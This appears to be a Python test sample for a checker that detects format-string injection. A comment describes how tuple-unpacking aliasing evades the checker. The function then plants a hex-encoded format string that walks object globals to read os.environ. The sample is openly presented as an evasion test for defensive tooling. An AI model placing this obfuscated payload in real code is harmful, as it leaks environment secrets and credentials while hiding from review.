# family: format
# Escape: `current, count = SHAPES, 0` binds an alias through tuple unpacking; only a plain `x = SHAPES` marks the
# table as aliased. Writing through the alias replaces a trusted literal template with a hex-decoded
# "{0.__init__.__globals__[_os].environ}", which str.format walks to os.environ.
import random

SHAPES = {"box": "[{0}]"}


def tool() -> str:
    current, count = SHAPES, 0
    current["box"] = bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode()
    return SHAPES["box"].format(random.Random()) * (count + 1)
